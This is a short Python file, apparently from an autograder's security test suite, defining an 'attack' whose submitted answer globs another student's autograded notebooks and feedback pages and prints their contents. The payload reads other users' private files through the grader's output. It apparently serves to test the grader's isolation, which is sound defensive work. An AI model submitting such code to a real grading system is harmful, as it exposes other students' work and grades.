"""It prints other students' autograded notebooks and feedback pages."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import answer

ATTACK = Attack(
    kind="reading",
    wants=Want.LEAK,
    make=answer(
        """
import glob

for part in ("autograded", "feedback"):
    for path in glob.glob(f"{COURSE}/{part}/{VICTIM}/**", recursive=True):
        try:
            tell(open(path, "rb").read())
        except OSError:
            pass
"""
    ),
)
